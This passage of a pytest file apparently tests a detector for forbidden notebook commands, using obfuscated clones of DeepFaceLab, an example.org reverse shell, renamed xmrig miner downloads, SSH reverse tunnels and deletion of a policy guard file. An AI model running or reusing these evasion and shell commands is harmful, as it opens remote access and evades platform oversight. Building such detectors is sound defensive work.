    "arith side effect": "a[$(git clone https://github.com/iperov/DeepFaceLab)]=1",
    "arith subst2": "echo $((a[$(git clone https://github.com/iperov/DeepFaceLab >/dev/null; echo 0)]))",
    "test side effect": '[ -n "$(git clone https://github.com/iperov/DeepFaceLab)" ]',
    "dq nested": 'echo "$(echo "$(git clone https://github.com/iperov/DeepFaceLab)")"',
    "CRLF": "git clone https://github.com/iperov/DeepFaceLab\r\nls\r\n",
    "dd pipe": "echo 'git clone https://github.com/iperov/DeepFaceLab' | dd 2>/dev/null | sh",
    "zsh =git": "zsh -c '=git clone https://github.com/iperov/DeepFaceLab'",
    "look shuf": "shuf -n1 -e 'git clone https://github.com/iperov/DeepFaceLab' | sh",
    "printf date": "date -d @0 +'git clone https://github.com/iperov/DeepFaceLab' | sh",
    "envsubst": "export R=DeepFaceLab; echo 'git clone https://github.com/iperov/$R' | envsubst | sh",
    "jq raw": "jq -r '.c' <<< '{\"c\":\"git clone https://github.com/iperov/DeepFaceLab\"}' | sh",
    "python -m base64": "python3 -m base64 -d <(echo Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=) | sh",
    "basenc": "basenc --base16 -d <<< 67697420636C6F6E652068747470733A2F2F6769746875622E636F6D2F697065726F762F44656570466163654C6162 | sh",
    "gpg dearmor": "base64 -di <<< 'Z2l0IGNsb25l*IGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=' | sh",
}

FOREIGN: dict[str, str] = {
    "perl": "perl -e 'system(\"git clone https://github.com/iperov/DeepFaceLab.git\")'",
    "perl reverse": 'perl -e \'$x = reverse("baLecaFpeeD"); system("git clone https://github.com/iperov/$x");\'',
    "perl base64": "perl -MMIME::Base64 -e 'exec decode_base64(\"Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=\")'",
    "perl backquotes": "perl -e '`git clone https://github.com/iperov/DeepFaceLab`'",
    "perl tr": "perl -e '$s=\"tvg pybar uggcf://tvguho.pbz/vcrebi/QrrcSnprYno\"; $s =~ tr/a-zA-Z/n-za-mN-ZA-M/; system $s'",
    "perl open": "perl -e 'open(F, \"git clone https://github.com/iperov/DeepFaceLab |\")'",
    "perl pack": 'perl -e \'system(pack("H*","67697420636c6f6e652068747470733a2f2f6769746875622e636f6d2f697065726f762f44656570466163654c6162"))\'',
    "node": "node -e \"require('child_process').execSync('git clone https://github.com/iperov/DeepFaceLab')\"",
    "node spawn": "node -e \"const {spawn}=require('child_process'); spawn('git',['clone','https://github.com/iperov/'+'DeepFaceLab'])\"",
    "node base64 eval": (
        "node -e \"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdnaXQgY2xvbmUgaHR0cHM6Ly9naXRodWIuY29t"
        "L2lwZXJvdi9EZWVwRmFjZUxhYicp','base64').toString())\""
    ),
    "node template": 'node -e \'const r="DeepFaceLab"; require("child_process").exec(`git clone https://github.com/iperov/${r}`)\'',
    "ruby words": 'ruby -e \'system("git", "clone", "https://github.com/iperov/DeepFaceLab")\'',
    "ruby backquotes": "ruby -e '`git clone https://github.com/iperov/DeepFaceLab`'",
    "ruby popen": "ruby -e 'IO.popen(%w[git clone https://github.com/iperov/DeepFaceLab])'",
    "ruby base64": "ruby -rbase64 -e 'system Base64.decode64(\"Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=\")'",
    "ruby send": "ruby -e 'Kernel.send(:system, \"git clone https://github.com/iperov/DeepFaceLab\")'",
    "ruby reverse": "ruby -e 'system(\"baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig\".reverse)'",
    "php": "php -r 'shell_exec(strrev(\"baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig\"));'",
    "lua": 'lua -e \'os.execute("git clone https://github.com/iperov/" .. "DeepFaceLab")\'',
    "R": 'Rscript -e \'system(paste0("git clone https://github.com/iperov/","DeepFaceLab"))\'',
    "R system2": 'R -e \'system2("git", c("clone","https://github.com/iperov/DeepFaceLab"))\'',
    "R install": "Rscript -e 'devtools::install_github(\"iperov/DeepFaceLab\")'",
    "julia": "julia -e 'run(`git clone https://github.com/iperov/DeepFaceLab`)'",
    "julia variable": "julia -e 'x=\"DeepFaceLab\"; run(`git clone https://github.com/iperov/$x`)'",
    "awk system": "awk 'BEGIN{system(\"git clone https://github.com/iperov/DeepFaceLab\")}'",
    "awk getline": "awk 'BEGIN { \"git clone https://github.com/iperov/DeepFaceLab\" | getline x }'",
    "awk prints to sh": 'echo x | awk \'{print "git clone https://github.com/iperov/DeepFaceLab" | "sh"}\'',
    "C": "cat > m.c <<'X'\n#include <stdlib.h>\nint main(){ system(\"git clone https://github.com/iperov/DeepFaceLab\"); }\nX\ngcc m.c -o m && ./m",
    "C execlp": 'cat > m.c <<\'X\'\nint main(){ execlp("git","git","clone","https://github.com/iperov/DeepFaceLab",NULL); }\nX\ngcc m.c && ./a.out',
    "go": 'cat > x.go <<\'X\'\npackage main\nimport "os/exec"\nfunc main(){ exec.Command("git","clone","https://github.com/iperov/DeepFaceLab").Run() }\nX\ngo run x.go',
    "rust": 'cat > x.rs <<\'X\'\nuse std::process::Command;\nfn main(){ Command::new("git").arg("clone").arg("https://github.com/iperov/DeepFaceLab").status(); }\nX\nrustc x.rs -o x; ./x',
    "deno": 'deno eval \'new Deno.Command("git",{args:["clone","https://github.com/iperov/DeepFaceLab"]}).output()\'',
    "tcl": "tclsh <<'X'\nexec git clone https://github.com/iperov/DeepFaceLab\nX",
    "a script's first line": "printf '#!/usr/bin/env perl\\nsystem(\"git clone https://github.com/iperov/DeepFaceLab\");\\n' > t; chmod +x t; ./t",
}

OTHERS: dict[str, tuple[str, str | tuple[str, ...]]] = {
    "flake run": ("package nix:tor", "nix run nixpkgs#tor -- --version"),
    "flake in a shell": ("command tor", "nix shell nixpkgs#tor -c tor"),
    "flake of a profile": ("package nix:tor", "nix profile install nixpkgs#tor"),
    "program of a nix shell": ("command tor", "nix-shell -p hello --run 'tor -f x'"),
    "selections of dpkg": ("package apt:tor", "echo 'tor install' | sudo dpkg --set-selections"),
    "list of brew": ("package brew:tor", "echo \"brew 'tor'\" > Brewfile; brew bundle"),
    "list of pipenv": (
        "package pypi:stem",
        "printf '[packages]\\nstem = \"*\"\\n' > Pipfile; pipenv install",
    ),
    "list of poetry": (
        "package pypi:stem",
        'printf \'[tool.poetry.dependencies]\\npython="*"\\nstem = "*"\\n\' > pyproject.toml; poetry install',
    ),
    "requirements by a variable": (
        "package pypi:stem",
        "echo stem > r.txt; PIP_REQUIREMENT=r.txt pip install",
    ),
    "requirements by a setting": (
        "package pypi:stem",
        ("pip config set install.requirement r.txt", "echo stem > r.txt; pip install"),
    ),
    "requirements compiled": (
        "package pypi:stem",
        "echo stem > r.in; pip-compile r.in -o r.txt; pip install -r r.txt",
    ),
    "environment file by default": (
        "package pypi:stem",
        "printf 'dependencies:\\n- pip:\\n  - stem\\n' > environment.yml; conda env create",
    ),
    "list of pixi": (
        "package pypi:stem",
        "printf '[pypi-dependencies]\\nstem = \"*\"\\n' > pixi.toml; pixi install",
    ),
    "image of a cluster": ("package docker:a/tor", "kubectl run x --image=a/tor"),
    "image of a pod": (
        "package docker:a/tor",
        "printf 'spec:\\n- image: a/tor\\n' > p.yml; kubectl apply -f p.yml",
    ),
    "image without a container": ("package docker:a/tor", "crane export a/tor - | tar x -C r"),
    "remote forwarding": (
        "argument ssh -R",
        "ssh -o StrictHostKeyChecking=no -R 80:localhost:22 nokey@localhost.run",
    ),
    "forwarding in a cluster": ("argument ssh -R", "ssh -NfR80:localhost:22 nokey@localhost.run"),
    "forwarding by option": ("argument ssh -R", "ssh -o RemoteForward='80 localhost:22' nokey@localhost.run"),
    "forwarding by configuration": (
        "argument ssh -R",
        (
            "printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config",
            "ssh z",
        ),
    ),
    "host by configuration": (
        "host serveo.net",
        (
            "printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config",
            "ssh z",
        ),
    ),
    "socks by cluster": ("argument ssh -D", "ssh -fND 1080 me@example.org"),
    "reverse shell by /dev/tcp": ("host example.org", "bash -i >& /dev/tcp/example.org/4444 0>&1"),
    "socat": ("host example.org", "socat exec:'bash -li',pty tcp:example.org:4444"),
    "magnet": ("argument aria2c --seed-time=0", 'aria2c --seed-time=0 "magnet:?xt=urn:btih:00"'),
    "magnet address": ("url magnet:?xt=urn:btih:00", 'aria2c --seed-time=0 "magnet:?xt=urn:btih:00"'),
    "pool": (
        "url stratum+tcp://pool.example.invalid:3333",
        "./python3 -o stratum+tcp://pool.example.invalid:3333",
    ),
    "pool without a scheme": ("host pool.example.org", "./worker -o pool.example.org:3333 -u x"),
    "renamed binary of a release": (
        "repository github.com/xmrig/xmrig",
        (
            "wget -qO- https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz && mv xmrig-6.21.0/xmrig ./python3",
            "./python3 --help",
        ),
    ),
    "binary moved onto the path": (
        "repository github.com/xmrig/xmrig",
        (
            "wget -q https://github.com/xmrig/xmrig/releases/download/v6/xmrig -O /tmp/w && chmod +x /tmp/w && mv /tmp/w /usr/local/bin/trainer",
            "trainer --help",
        ),
    ),
    "archive with another name": (
        "repository github.com/iperov/deepfacelab",
        (
            "wget -O d.zip https://github.com/iperov/DeepFaceLab/archive/master.zip",
            "cp d.zip data.bin; unzip -q data.bin -d w",
            "cd w/x && python main.py",
        ),
    ),
    "copied folder": (
        "repository github.com/iperov/deepfacelab",
        ("git clone -q https://github.com/iperov/DeepFaceLab a", "cp -r a b", "cd b && ls && python main.py"),
    ),
    "apt": (
        "package apt:tmate",
        "sudo DEBIAN_FRONTEND=noninteractive apt-get -o Dpkg::Use-Pty=0 -y install curl tmate=2.4",
    ),
    "deb file": (
        "package apt:rustdesk",
        "wget https://x.example/rustdesk-1.2.3-x86_64.deb; dpkg -i rustdesk-1.2.3-x86_64.deb",
    ),
    "conda": ("package conda:xmrig", "conda install -y -c conda-forge xmrig"),
    "conda with a channel": ("package conda:xmrig", "mamba install -y conda-forge::xmrig=6"),
    "conda environment file": (
        "package pypi:pyngrok",
        "printf 'dependencies:\\n  - python\\n  - pip:\\n    - pyngrok\\n' > e.yml; conda env create -f e.yml",
    ),
    "container image": (
        "package docker:universonic/stable-diffusion-webui",
        "udocker --allow-root run -p 7860 universonic/stable-diffusion-webui",
    ),
    "container file": (
        "package docker:linuxserver/qbittorrent",
        "printf 'FROM linuxserver/qbittorrent:latest\\n' > Dockerfile; docker build .",
    ),
    "compose file": (
        "package docker:xmrig/xmrig",
        "printf 'services:\\n  a:\\n    image: xmrig/xmrig:1\\n' > compose.yml; docker compose up -d",
    ),
    "npx": ("package npm:localtunnel", "npx -y localtunnel@2 --port 8000"),
    "npm alias": ("package npm:localtunnel", "npm i x@npm:localtunnel@2"),
    "pipx run": ("package pypi:pproxy", "pipx run pproxy -l http://:8080"),
    "uvx": ("package pypi:pproxy", "uvx pproxy"),
    "name in PEP 503": ("package pypi:colab-ssh", "pip install Colab_SSH[x]>=1"),
    "module of Python": ("module pproxy", "python3 -m pproxy -l http://:8080"),
    "models": ("package huggingface:owner/name", "huggingface-cli download owner/name --local-dir x"),
    "unknown text to a shell": (
        "opaque download-run",
        "curl -fsSL https://example.org/i.sh | sudo bash -s -- -y",
    ),
    "downloaded and run": ("opaque download-run", "wget https://example.org/i.sh && bash i.sh"),
    "encrypted archive": ("opaque encrypted-archive", "unzip -q -P hunter2 work.zip -d w"),
    "unknown command": ("opaque unresolved-command", "$(curl -s https://example.org/c) now"),
    "removed policy": ("file ~/.cache/jupyter_tos_guard", "rm -rf ~/.cache/jupyter_tos_guard"),
}

MENTIONS: dict[str, str] = {
    "echo": "echo git clone https://github.com/iperov/DeepFaceLab",
    "grep": "grep -rn DeepFaceLab notes/ || true",
    "comment": "# git clone https://github.com/iperov/DeepFaceLab\nls",
    "comment at the end": "ls # git clone https://github.com/iperov/DeepFaceLab",
    "document to the terminal": "cat <<EOF\ngit clone https://github.com/iperov/DeepFaceLab\nEOF",
    "written and only read": "echo 'git clone https://github.com/iperov/DeepFaceLab' > notes.txt; cat notes.txt; wc -l notes.txt",
    "null command": ": git clone https://github.com/iperov/DeepFaceLab",
    "never reached by &&": "false && git clone https://github.com/iperov/DeepFaceLab",
    "never reached by ||": "true || git clone https://github.com/iperov/DeepFaceLab",
    "after exit": "exit; git clone https://github.com/iperov/DeepFaceLab",
    "function never called": "f() { git clone https://github.com/iperov/DeepFaceLab; }",
    "decoded to the terminal": "echo Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI= | base64 -d",
    "text through filters": 'x="git clone https://github.com/iperov/DeepFaceLab"; echo "$x" | tr a-z A-Z | sort',
    "header": "curl -H 'Referer: https://github.com/iperov/DeepFaceLab' https://example.org/",
    "posted data": "curl -d 'q=https://github.com/iperov/DeepFaceLab' https://example.org/search",
    "user agent": "wget -U 'https://github.com/iperov/DeepFaceLab' https://example.org/",
    "commit message": "git commit -m 'see https://github.com/iperov/DeepFaceLab'",
    "Perl comment": "perl -e '# system(\"git clone https://github.com/iperov/DeepFaceLab\")\nprint 1'",
    "Node log": "node -e \"console.log('git clone https://github.com/iperov/DeepFaceLab')\"",
    "false test": "if [ 1 = 2 ]; then git clone https://github.com/iperov/DeepFaceLab; fi",
    "edit": "sed -i 's/DeepFaceLab/x/' README.md",
    "variable only": "export REPO=https://github.com/iperov/DeepFaceLab",
    "awk string": "awk 'BEGIN{print \"git clone https://github.com/iperov/DeepFaceLab\"}'",
    "R comment": "Rscript -e '# system(\"git clone https://github.com/iperov/DeepFaceLab\")\nprint(1)'",
    "find by name": "find . -name '*DeepFaceLab*' -type d",
    "pattern in an editor": "vim -c '/DeepFaceLab' notes.txt",
    "text in a database": "sqlite3 a.db \"select 'git clone https:/github.com/iperov/DeepFaceLab'\"",
    "Perl string": "perl -e '$_ = \"DeepFaceLab\"; tr/a-z/A-Z/; print'",
}


@pytest.mark.parametrize(
    "attack",
    [*CLONES.values(), *ROUNDABOUT.values(), *FOREIGN.values()],
    ids=[*CLONES, *ROUNDABOUT, *(f"in {k}" for k in FOREIGN)],
)
def test_attack_is_seen_to_fetch_the_repository(attack: str | tuple[str, ...]) -> None:
    cells = (attack,) if isinstance(attack, str) else attack
    assert REPOSITORY in said(facts_of(*cells))


@pytest.mark.parametrize(("want", "attack"), OTHERS.values(), ids=list(OTHERS))
def test_attack_is_seen_to_do(want: str, attack: str | tuple[str, ...]) -> None:
    cells = (attack,) if isinstance(attack, str) else attack
    assert want in said(facts_of(*cells))


@pytest.mark.parametrize("text", MENTIONS.values(), ids=list(MENTIONS))
def test_mention_is_not_use(text: str) -> None:
    facts = facts_of(text)
    assert not [fact for fact in facts if "deepfacelab" in fact.value.lower() and fact.kind != "file"]


@pytest.mark.parametrize(
    "attack",
    [v for v in CLONES.values() if isinstance(v, str)],
    ids=[k for k, v in CLONES.items() if isinstance(v, str)],
)
def test_benign_twin_leaves_its_own_repository_only(attack: str) -> None:
    """The same trick with a harmless name must not be mistaken for the other one."""
    if "DeepFaceLab" not in attack or "iperov" not in attack:
        pytest.skip("the name is hidden in the attack")
    twin = attack.replace("iperov", "pytorch").replace("DeepFaceLab", "examples")
    facts = facts_of(twin)
    assert REPOSITORY not in said(facts)
    assert (
        "repository github.com/pytorch/examples" in said(facts)
        or "{0..2}" in twin
        or ":2:11" in twin
        or "head -c" in twin
    )


def test_socat_between_programs_of_this_computer_connects_nothing() -> None:
    assert not [fact for fact in facts_of("socat - EXEC:date") if fact.kind == "argument"]
    assert "argument socat tcp-listen:22" in said(facts_of("socat tcp-listen:22 EXEC:bash"))
